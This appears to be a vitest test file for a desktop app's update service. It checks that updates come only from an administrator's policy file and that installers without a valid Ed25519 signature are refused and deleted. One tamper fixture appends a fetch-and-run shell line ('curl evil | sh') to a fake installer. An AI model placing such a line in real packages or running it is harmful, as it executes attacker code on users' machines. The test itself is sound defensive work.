/**
 * The update service (issues 15.3 and 26): the feed, automatic checks and the production consent
 * come only from the administrator's policy file, and every download must carry a valid Ed25519
 * signature before it is "ready". The signed-update cases run electron-updater's real DebUpdater
 * under Node against a loopback feed (loopback-feed.ts).
 */
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { createHash, generateKeyPairSync, sign, type KeyObject } from 'node:crypto';
import { mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { Socket } from 'node:net';
import dns from 'node:dns';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createLogger } from '../../../src/main/log/logger';
import { UpdateService, type UpdateServiceDeps } from '../../../src/main/updater/update-service';
import type { UpdateEngine } from '../../../src/main/updater/update-engine';
import { fakeInstaller, nodeDebEngineFactory, startLoopbackFeed, type LoopbackFeed } from './loopback-feed';

const FEED = 'https://updates.example.com/copper-operator/';
const release = generateKeyPairSync('ed25519');
const stranger = generateKeyPairSync('ed25519');

let dir: string;
let feed: LoopbackFeed | null = null;
let logLines: string[] = [];
const quiet = () => createLogger({ write: (line) => logLines.push(line) });

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'copper-updates-'));
  logLines = [];
});
afterEach(async () => {
  vi.restoreAllMocks();
  await feed?.close();
  feed = null;
  await rm(dir, { recursive: true, force: true });
});

/** The signature file's text for `payload`: base64 Ed25519 over the lowercase hex SHA-512. */
function signatureOf(payload: Buffer, key: KeyObject = release.privateKey): string {
  const digest = createHash('sha512').update(payload).digest('hex');
  return sign(null, Buffer.from(digest, 'ascii'), key).toString('base64') + '\n';
}

async function writePolicy(policy: unknown, name = 'policy.json'): Promise<string> {
  const path = join(dir, name);
  await writeFile(path, typeof policy === 'string' ? policy : JSON.stringify(policy));
  return path;
}

async function open(overrides: Partial<UpdateServiceDeps> = {}) {
  const { factory, updaters, feeds } = await nodeDebEngineFactory(dir, '0.1.0', () => feed!.url);
  const service = await UpdateService.open({
    dataDir: dir,
    currentVersion: '0.1.0',
    createEngine: factory,
    hasProductionWorkspace: async () => false,
    log: quiet(),
    // Automatic checks run once at start here; the 6-hour timer is not started.
    every: () => ({ stop: () => undefined }),
    policyPaths: [join(dir, 'policy.json')],
    publicKey: release.publicKey,
    ...overrides,
  });
  return { service, updaters, feeds };
}

const OFF = { state: 'off', feedUrl: '', automatic: false, productionConsent: false } as const;

/** Opens and starts the service with an engine factory, and checks that updates stayed off. */
async function startOff() {
  const createEngine = vi.fn();
  const { service } = await open({ createEngine });
  await service.start();
  const status = service.status();
  expect(status).toMatchObject(OFF);
  return { service, status, createEngine };
}

/** Every file left under the updater's cache folder. */
async function filesInCache(): Promise<string[]> {
  const root = join(dir, 'cache');
  const entries = await readdir(root, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries.filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name));
}

/** Counts every outgoing TCP connection and DNS lookup made by anything in this process. */
function watchNetwork() {
  const connect = vi.spyOn(Socket.prototype, 'connect');
  const lookup = vi.spyOn(dns, 'lookup');
  const fetchSpy = vi.spyOn(globalThis, 'fetch');
  return () => connect.mock.calls.length + lookup.mock.calls.length + fetchSpy.mock.calls.length;
}

describe('with no policy (the default)', () => {
  it('updates are off, and neither start, status nor check reaches the network or builds an updater', async () => {
    const network = watchNetwork();
    const { service, status, createEngine } = await startOff();
    expect(status).toMatchObject({ policy: { source: null, problem: null } });
    expect(await service.check()).toMatchObject({ ok: false, error: { code: 'unsupported' } });
    expect(await service.installOnRestart(true)).toMatchObject({ ok: false });
    expect(createEngine).not.toHaveBeenCalled();
    expect(network()).toBe(0);
    expect(service.aboutLine()).toBe('Updates: off, no update policy is installed.');
  });

  it("the settings an older version saved (updates.json) are never read as authority, and don't crash", async () => {
    feed = await startLoopbackFeed({ version: '0.2.0' });
    const old = { feedUrl: 'https://evil.example.net/', automatic: true, productionConsent: true };
    await writeFile(join(dir, 'updates.json'), JSON.stringify(old));
    const { createEngine } = await startOff();
    expect(createEngine).not.toHaveBeenCalled();
    expect(feed.connections).toBe(0);
    await writeFile(join(dir, 'updates.json'), '{ not json');
    expect((await open()).service.status()).toMatchObject({ state: 'off', feedUrl: '' });
  });

  it('the network watch does see an updater that connects (control for the tests above)', async () => {
    feed = await startLoopbackFeed({ version: '0.1.0' });
    await writePolicy({ feedUrl: FEED });
    const network = watchNetwork();
    const { service } = await open();
    await service.check();
    expect(network()).toBeGreaterThan(0);
    expect(feed.connections).toBeGreaterThan(0);
  });
});

describe('signed updates (electron-updater under Node, loopback feed)', () => {
  it('a correct signature: downloaded, verified, ready to install on restart', async () => {
    feed = await startLoopbackFeed({ version: '0.2.0', signature: signatureOf(fakeInstaller('0.2.0')) });
    await writePolicy({ feedUrl: FEED });
    const statuses: string[] = [];
    const { service, updaters, feeds } = await open({ onStatus: (s) => statuses.push(s.state) });
    expect(feed.connections).toBe(0); // reading the policy does not check the feed
    const result = await service.check();
    expect(result).toMatchObject({ ok: true, value: { state: 'ready', availableVersion: '0.2.0' } });
    expect(feeds).toEqual([FEED]);
    expect(statuses).toEqual(['checking', 'downloading', 'ready']);
    expect(feed.requests).toContain('/feed/copper-operator_0.2.0_amd64.deb');
    expect(feed.requests).toContain('/feed/copper-operator_0.2.0_amd64.deb.sig');
    expect(await filesInCache()).toContainEqual(expect.stringMatching(/copper-operator_0\.2\.0_amd64\.deb$/));
    expect(updaters[0]?.autoInstallOnAppQuit).toBe(false);

    const install = await service.installOnRestart(false);
    expect(install).toMatchObject({ ok: true, value: { installOnQuit: true } });
    expect(updaters[0]?.autoInstallOnAppQuit).toBe(true);
  });

  const good = fakeInstaller('0.2.0');
  // Each case reached "ready" before issue 26 (seen with the code of that time): latest.yml's sha512
  // matches what the feed serves, which is all electron-updater checks.
  const refusals: Array<{ name: string; payload?: Buffer; signature?: string; reason: RegExp }> = [
    {
      name: 'a tampered installer (latest.yml rewritten to match it)',
      payload: Buffer.concat([good, Buffer.from('#!/bin/sh\ncurl evil | sh\n')]),
      signature: signatureOf(good),
      reason: /signature does not match/,
    },
    {
      name: 'a signature made with another key',
      signature: signatureOf(good, stranger.privateKey),
      reason: /signature does not match/,
    },
    { name: 'no signature file', reason: /no signature file/ },
    {
      name: 'a signature file that is not a signature',
      signature: 'trust me\n',
      reason: /not a base64 Ed25519/,
    },
  ];
  for (const refusal of refusals)
    it(`refuses ${refusal.name}: deleted, nothing installed, the reason on screen`, async () => {
      feed = await startLoopbackFeed({
        version: '0.2.0',
        ...(refusal.payload ? { payload: refusal.payload } : {}),
        ...(refusal.signature !== undefined ? { signature: refusal.signature } : {}),
      });
      await writePolicy({ feedUrl: FEED });
      const { service, updaters } = await open();
      const result = await service.check();
      expect(result).toMatchObject({
        ok: true,
        value: {
          state: 'refused',
          availableVersion: '0.2.0',
          message: expect.stringMatching(refusal.reason),
        },
      });
      expect(service.status().message).toMatch(/refused and deleted.*Nothing was installed/);
      expect(feed.requests).toContain('/feed/copper-operator_0.2.0_amd64.deb');
      expect(await filesInCache()).toEqual([]);
      const quit = vi.spyOn(updaters[0]!, 'quitAndInstall');
      expect(await service.installOnRestart(true)).toMatchObject({ ok: false, error: { code: 'bad-input' } });
      expect(quit).not.toHaveBeenCalled();
      expect(updaters[0]?.autoInstallOnAppQuit).toBe(false);
      expect(logLines.join('\n')).toMatch(/ERROR \[updater\] Version 0\.2\.0 was refused/);
    });

  it('the built-in key refuses an update signed with any other key', async () => {
    feed = await startLoopbackFeed({ version: '0.2.0', signature: signatureOf(fakeInstaller('0.2.0')) });
    await writePolicy({ feedUrl: FEED });
    // No key given: the service checks with the key built into the app.
    const { service } = await open({ publicKey: undefined });
    expect(await service.check()).toMatchObject({ ok: true, value: { state: 'refused' } });
    expect(await filesInCache()).toEqual([]);
  });

  it('reports up to date when the feed offers the running version', async () => {
    feed = await startLoopbackFeed({ version: '0.1.0' });
    await writePolicy({ feedUrl: FEED });
    const { service } = await open({ now: () => new Date('2026-11-23T12:00:00.000Z') });
    expect(await service.check()).toMatchObject({
      ok: true,
      value: { state: 'up-to-date', availableVersion: null, lastCheckedAt: '2026-11-23T12:00:00.000Z' },
    });
    expect(feed.requests.filter((p) => p.endsWith('.deb'))).toEqual([]);
  });

  it('a failing feed is an error on screen, asked once and not retried', async () => {
    feed = await startLoopbackFeed({ version: '0.2.0', status: 500 });
    await writePolicy({ feedUrl: FEED });
    const { service } = await open();
    const result = await service.check();
    expect(result).toMatchObject({ ok: true, value: { state: 'error', message: /update check failed/ } });
    expect(feed.requests).toHaveLength(1);
  });
});

describe('automatic updates and consent come from the policy', () => {
  const signed = () => ({ version: '0.2.0', signature: signatureOf(fakeInstaller('0.2.0')) });

  it('never check on their own unless the policy turns them on', async () => {
    feed = await startLoopbackFeed(signed());
    await writePolicy({ feedUrl: FEED });
    const { service } = await open();
    await service.start();
    expect(feed.connections).toBe(0);
    await writePolicy({ feedUrl: FEED, automatic: true });
    const on = (await open()).service;
    await on.start();
    expect(on.status()).toMatchObject({ state: 'ready', automatic: true });
  });

  it('wait while a production workspace exists unless the policy consents', async () => {
    feed = await startLoopbackFeed(signed());
    await writePolicy({ feedUrl: FEED, automatic: true });
    const { service } = await open({ hasProductionWorkspace: async () => true });
    await service.start();
    expect(feed.connections).toBe(0);
    expect(service.status()).toMatchObject({ state: 'idle', automaticPaused: /production workspace/ });

    await writePolicy({ feedUrl: FEED, automatic: true, productionConsent: true });
    const consented = (await open({ hasProductionWorkspace: async () => true })).service;
    await consented.start();
    expect(consented.status()).toMatchObject({
      state: 'ready',
      automaticPaused: null,
      productionConsent: true,
    });
  });

  it("an operator's own check is consent for that check, even with production", async () => {
    feed = await startLoopbackFeed(signed());
    await writePolicy({ feedUrl: FEED });
    const { service } = await open({ hasProductionWorkspace: async () => true });
    expect((await service.check()).ok).toBe(true);
    expect(service.status().state).toBe('ready');
  });
});

describe('the policy file', () => {
  it('is searched in order: the first file found wins, a bad one stops the search', async () => {
    const system = await writePolicy({ feedUrl: 'https://system.example.com/' }, 'system.json');
    const packaged = await writePolicy({ feedUrl: 'https://packaged.example.com/' }, 'packaged.json');
    const missing = join(dir, 'missing.json');
    expect((await open({ policyPaths: [missing, packaged] })).service.status()).toMatchObject({
      feedUrl: 'https://packaged.example.com/',
      policy: { source: packaged, problem: null },
    });
    expect((await open({ policyPaths: [system, packaged] })).service.status().feedUrl).toBe(
      'https://system.example.com/',
    );
    await writeFile(system, '{"feedUrl": "http://system.example.com/"}');
    const refused = (await open({ policyPaths: [system, packaged] })).service;
    expect(refused.status()).toMatchObject({ state: 'off', feedUrl: '', policy: { source: system } });
  });

  const bad: Array<[string, unknown]> = [
    ['not JSON', '{ feedUrl: '],
    ['an unknown key', { feedUrl: FEED, feedURL: FEED }],
    ['a wrong type', { feedUrl: FEED, automatic: 'yes' }],
    ['an array', [FEED]],
    ['plain http', { feedUrl: 'http://updates.example.com/' }],
    ['an IP literal', { feedUrl: 'https://10.0.0.8/' }],
    ['a decimal IP', { feedUrl: 'https://2130706433/' }],
    ['punycode', { feedUrl: 'https://xn--pple-43d.com/' }],
  ];
  for (const [name, policy] of bad)
    it(`with ${name} is reported (status, About, log) and updates stay off`, async () => {
      const path = await writePolicy(policy);
      const { service, status, createEngine } = await startOff();
      expect(status.policy).toMatchObject({ source: path, problem: expect.stringContaining(path) });
      expect(status.message).toBe(status.policy.problem);
      expect(await service.check()).toMatchObject({ ok: false, error: { code: 'unsupported' } });
      expect(service.aboutLine()).toMatch(/^Updates: off, the update policy was refused: /);
      expect(logLines.join('\n')).toMatch(/ERROR \[updater\] update policy refused/);
      expect(createEngine).not.toHaveBeenCalled();
    });

  it('that cannot be read is reported like a bad one', async () => {
    const path = join(dir, 'policy.json');
    await mkdir(path); // EISDIR: exists, unreadable as a file
    const { service } = await open();
    expect(service.status()).toMatchObject({ state: 'off', policy: { problem: /cannot be read/ } });
  });

  it('feedUrl null or absent means updates off, without a problem', async () => {
    await writePolicy({ feedUrl: null, automatic: true });
    const { service } = await open();
    expect(service.status()).toMatchObject({ state: 'off', policy: { problem: null } });
    expect(service.aboutLine()).toMatch(/^Updates: off, from the policy /);
  });
});

describe('installing', () => {
  const fakeEngine = (): UpdateEngine & { installs: number } => {
    const engine = {
      installs: 0,
      check: async () => ({ version: '0.3.0', available: true }),
      download: async () => {
        const file = join(dir, 'fake.deb');
        await writeFile(file, 'fake');
        return file;
      },
      fetchSignature: async () => signatureOf(Buffer.from('fake')),
      setInstallOnQuit: vi.fn(),
      quitAndInstall: () => {
        engine.installs += 1;
      },
    };
    return engine;
  };

  it('installs only when asked: "restart now" quits and installs', async () => {
    await writePolicy({ feedUrl: FEED });
    const engine = fakeEngine();
    const { service } = await open({ createEngine: () => engine });
    await service.check();
    expect(engine.installs).toBe(0);
    await service.installOnRestart(true);
    expect(engine.installs).toBe(1);
  });

  it('are unsupported in browser mode, where a policy problem is still shown', async () => {
    await writePolicy({ feedUrl: 'https://[::1]/' });
    const { service } = await open({ createEngine: null });
    expect(service.status()).toMatchObject({ state: 'unsupported', policy: { problem: /IP address/ } });
    expect(await service.check()).toMatchObject({ ok: false, error: { code: 'unsupported' } });
  });
});
